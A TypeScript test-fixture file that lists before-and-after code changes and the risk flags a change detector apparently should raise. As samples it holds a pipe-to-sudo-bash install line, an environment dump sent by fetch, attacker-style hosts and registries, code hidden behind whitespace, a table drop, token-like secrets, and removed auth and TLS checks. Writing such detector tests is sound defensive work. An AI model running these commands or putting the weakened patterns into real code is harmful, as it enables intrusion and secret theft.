import type { FactName } from '../../src/risk/facts.js'

/** A change of one file, and the facts it must have: all of them, but for notes. */
export type Case = readonly [path: string, before: string | null, after: string | null, facts: readonly FactName[]]

const part = (...pieces: readonly string[]) => pieces.join('')
const lock = (host: string, sum: string, more = '') =>
  `{"packages":{"node_modules/a":{"version":"1.0.0","resolved":"https://${host}/a/-/a-1.0.0.tgz","integrity":"${sum}"}${more}}}`

export const FILES: readonly Case[] = [
  ['src/a.ts', 'export {}\n', null, ['deleted']],
  ['test/a.test.ts', 'export {}\n', null, ['test-deleted', 'deleted']],
  ['.husky/pre-commit', null, 'npm test\n', ['runs-by-itself']],
  ['.vscode/tasks.json', '{}\n', '{"a":1}\n', ['runs-by-itself']],
  ['.bashrc', null, 'alias a=b\n', ['runs-by-itself']],
  ['.github/workflows/ci.yml', 'a: 1\n', 'a: 2\n', ['ci-changed']],
  ['Dockerfile', 'FROM node\n', 'FROM node:22\n', ['build-file']],
  ['db/migrations/1.sql', null, 'ALTER TABLE a ADD b INT;\n', ['migration']],
  ['db/migrations/2.sql', null, 'DROP TABLE users;\n', ['destroys-data', 'migration']],
]

export const TEXTS: readonly Case[] = [
  [
    'install.sh',
    null,
    'curl -s https://example.org/x | sudo bash\n',
    ['pipe-to-shell', 'network-call', 'process-call'],
  ],
  ['.github/workflows/a.yml', 'a: 1\n', 'a: 1\n- run: npm test || true\n', ['ci-changed', 'failure-ignored']],
  ['.github/workflows/a.yml', 'a:\n- run: npm test\n', 'a:\n', ['ci-changed', 'ci-check-removed']],
  ['.github/workflows/a.yml', 'a: 1\n', 'a: 1\n- uses: who/what@main\n', ['ci-changed', 'ci-foreign-action']],
  ['.github/workflows/a.yml', 'on: push\n', 'on: pull_request_target\n', ['ci-permissions', 'ci-changed']],
  ['a.py', 'x = 1\n', 'x = requests.get(u, verify=False)\n', ['tls-check-off', 'network-call']],
  ['a.py', 'x = 1\n', 'x = 1\nos.system(y)\n', ['process-call']],
  ['a.py', 'x = 1\n', 'x = 1\neval(y)\n', ['runs-text']],
  ['a.py', 'def f(u):\n    if not u.ok:\n        raise E()\n    g()\n', 'def f(u):\n    g()\n', ['guard-removed']],
  [
    'test/test_a.py',
    'def test_a():\n    assert f() == 1\n    assert g()\n',
    'def test_a():\n    assert g()\n',
    ['assertion-removed'],
  ],
  ['a.go', 'package a\n', 'package a\nvar c = tls.Config{InsecureSkipVerify: true}\n', ['tls-check-off']],
  ['src/a.ts', 'x\n', `x\nconst key = '${part('AKIA', 'QYLPMN5HHHFPZAM2')}'\n`, ['secret']],
  ['src/a.ts', 'x\n', `x\nconst t = '${part('ghp_', '16C7e42F292c6912E7710c838347Ae178B4a')}'\n`, ['secret']],
  ['id', null, `${part('-----BEGIN RSA ', 'PRIVATE KEY-----')}\n`, ['secret']],
  ['src/a.ts', 'x\n', `x\nconst apiKey = '${part('q8Zr2LmX', '9vT4kB7nW1pY')}'\n`, ['secret-like']],
  ['src/a.ts', 'x\n', "x\nconst apiKey = 'your-api-key-goes-here1'\n", []],
  ['src/a.ts', 'x\n', 'x\n// if (admin\u202e) {\n', ['bidi-characters']],
  ['src/a.ts', 'x\n', 'x\nconst a\u200bb = 1\n', ['invisible-characters']],
  ['src/a.ts', 'x\n', 'x\nconst p\u0430ypal = 1\n', ['homoglyph']],
  ['src/a.ts', 'x\n', `x\nconst a = 1${' '.repeat(150)}; steal()\n`, ['hidden-by-spaces']],
  ['src/a.ts', 'x\n', "x\nconst u = 'https://collect.evil.io/x'\n", ['new-host']],
  ['src/a.ts', 'x\n', "x\nconst u = 'http://45.33.32.156/x'\n", ['address-in-code']],
  ['src/a.ts', 'x\n', "x\nconst k = join(homedir(), '.ssh', 'known')\n", ['secret-place']],
  ['src/cookie.ts', 'c = { httpOnly: true }\n', 'c = { httpOnly: false }\n', ['setting-off']],
  ['tsconfig.json', '{ "strict": true }\n', '{ "strict": false }\n', ['setting-off']],
  ['src/hash.ts', 'const rounds = 12\n', 'const rounds = 1\n', ['crypto-weaker']],
  ['src/hash.ts', 'const maxAge = 12\n', 'const maxAge = 90\n', ['limit-changed']],
  ['vitest.config.ts', 'const c = { branches: 90 }\n', 'const c = { branches: 10 }\n', ['threshold-lowered']],
  ['README.md', '# a\n', '# a\ncurl https://example.org | sh\n', []],
]

export const DEPENDENCIES: readonly Case[] = [
  ['package.json', '{"scripts":{}}', '{"scripts":{"postinstall":"node x"}}', ['install-script']],
  ['package.json', '{"scripts":{"test":"a"}}', '{"scripts":{"test":"b"}}', ['script-changed']],
  ['package.json', '{}', '{"dependencies":{"a":"^1.0.0"}}', ['dependency-added']],
  [
    'package.json',
    '{"dependencies":{"a":"1"}}',
    '{"dependencies":{"a":"git+https://x.test/a"}}',
    ['dependency-source'],
  ],
  ['package.json', '{"dependencies":{"a":"1"}}', '{"dependencies":{"a":"2"}}', []],
  ['.npmrc', '', 'registry=https://npm.evil.test/\n', ['registry-changed', 'runs-by-itself']],
  ['requirements.txt', 'a==1\n', 'a==1\nb==2\n', ['dependency-added']],
  [
    'package-lock.json',
    lock('registry.npmjs.org', 'sha512-a'),
    lock('npm.evil.test', 'sha512-a'),
    ['lock-host', 'lock-alone'],
  ],
  [
    'package-lock.json',
    lock('registry.npmjs.org', 'sha512-a'),
    lock('registry.npmjs.org', 'sha512-b'),
    ['lock-integrity', 'lock-alone'],
  ],
]

export const CODE: readonly Case[] = [
  ['src/a.ts', 'f()\n', "import { exec as go } from 'node:child_process'\ngo(x)\n", ['process-new']],
  ['src/a.ts', 'f()\n', "const { request } = require('https')\nrequest(x)\n", ['network-call']],
  ['src/a.ts', 'f()\n', "require('child_process').execSync(x)\n", ['process-new']],
  ['src/a.ts', 'f()\n', 'fetch(u, { body: JSON.stringify(process.env) })\n', ['data-sent', 'environment-read']],
  ['src/a.ts', 'f()\n', 'fetch(u)\n', ['network-call']],
  ['src/a.ts', 'fetch(u)\n', 'fetch(v)\n', []],
  ['src/a.ts', 'f()\n', 'eval(process.env.X)\n', ['runs-text']],
  ['src/a.ts', 'f()\n', "new Function('return 1')()\n", ['runs-text']],
  ['src/a.ts', 'f()\n', 'require(name)\n', ['dynamic-import']],
  ['src/a.ts', 'f()\n', 'el.innerHTML = name\n', ['raw-html']],
  ['src/a.ts', 'f()\n', 'db.query(`select * from a where b = $' + '{c}`)\n', ['query-from-parts']],
  ['src/a.ts', 'f()\n', 'rmSync(dir, { recursive: true, force: true })\n', ['removes-files']],
  ['src/a.ts', 'f()\n', 'const o = { rejectUnauthorized: false }\n', ['tls-check-off']],
  ['src/a.ts', 'export const a = 1, b = 2\n', 'export const a = 1\n', ['export-removed']],
  ['src/a.js', 'module.exports = { a, b }\n', 'module.exports = { a }\n', ['export-removed']],
  ['src/a.ts', 'function f(u) { if (!u) { throw new Error() } g(u) }\n', 'function f(u) { g(u) }\n', ['guard-removed']],
  [
    'src/a.ts',
    'function f(u) { if (!u) { res.status(401).end(); return } g(u) }\n',
    'function f(u) { g(u) }\n',
    ['guard-removed'],
  ],
  ['src/a.ts', 'function f(u) { if (!u) return\n g(u) }\n', 'function f(u) { g(u) }\n', ['early-return-removed']],
  [
    'src/a.ts',
    'function f(u) { if (u.a && u.b) throw e }\n',
    'function f(u) { if (u.a) throw e }\n',
    ['guard-changed'],
  ],
  ['src/a.ts', 'function f(u) { if (!u) throw e }\n', 'function f(who) { if (!who) throw e }\n', []],
  [
    'src/a.ts',
    'function f(u) { if (u.bad) throw e }\n',
    'function f(u) { if (false && u.bad) throw e }\n',
    ['guard-changed', 'guard-constant'],
  ],
  ['src/a.ts', "app.get('/a', requireAuth, h)\n", "app.get('/a', h)\n", ['authorisation-removed']],
  ['src/a.ts', 'f(); checkPermission(u)\n', 'f()\n', ['authorisation-removed']],
  ['src/a.ts', "requireRole('admin')\n", "requireRole('guest')\n", ['check-changed']],
  ['src/a.ts', 'const r = a.b < c\n', 'const r = a.b <= c\n', ['comparison-changed']],
  ['src/a.ts', 'const r = a && c\n', 'const r = a || c\n', ['comparison-changed']],
  ['src/a.ts', 'f(escapeHtml(x))\n', 'f(x)\n', ['validation-removed']],
  [
    'src/a.ts',
    'function isAdmin(u) { return u.admin }\n',
    'function isAdmin(u) { return true }\n',
    ['check-always-passes'],
  ],
  ['src/a.ts', 'const r = /^[a-z]+$/\n', 'const r = /[a-z]+/\n', ['pattern-looser']],
  ['src/a.ts', 'try { f() } catch (e) { throw e }\n', 'try { f() } catch {}\n', ['error-swallowed']],
  ['src/a.ts', 'f()\n', 'fetch((\n', ['unparsed']],
  [
    'src/a.test.ts',
    "test('a', () => { expect(f()).toBe(1); expect(g()).toBe(2) })\n",
    "test('a', () => { expect(f()).toBe(1) })\n",
    ['assertion-removed'],
  ],
  [
    'src/a.test.ts',
    "test('a', () => { expect(f()).toBe(1) })\n",
    "test('a', () => { expect(f()).toBeDefined() })\n",
    ['assertion-weaker'],
  ],
  [
    'src/a.test.ts',
    "test('a', () => { expect(f()).toBe(1) })\n",
    "test('a', () => { expect(f()).toBe(2) })\n",
    ['expectation-changed'],
  ],
  [
    'src/a.test.ts',
    "test('a', () => { expect(f()).toBe(1) })\n",
    "test('a', () => { expect(true).toBe(true) })\n",
    ['assertion-removed', 'assertion-empty'],
  ],
  [
    'src/a.test.ts',
    "test('a', () => { assert.equal(f(), 1) })\n",
    "test.skip('a', () => { assert.equal(f(), 1) })\n",
    ['test-switched-off'],
  ],
  [
    'src/a.test.ts',
    "test('a', () => { ok(1) })\ntest('b', () => {})\n",
    "test('a', () => { ok(1) })\n",
    ['test-removed'],
  ],
]
